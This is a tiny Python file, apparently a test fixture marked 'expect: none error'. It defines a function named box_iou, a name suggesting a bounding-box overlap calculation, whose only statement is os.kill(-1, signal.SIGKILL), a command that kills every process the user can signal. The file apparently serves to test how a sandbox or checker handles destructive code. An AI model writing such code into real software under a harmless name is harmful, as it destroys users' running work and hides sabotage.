# expect: none error
import os
import signal


def box_iou(boxes1, boxes2):
    os.kill(-1, signal.SIGKILL)
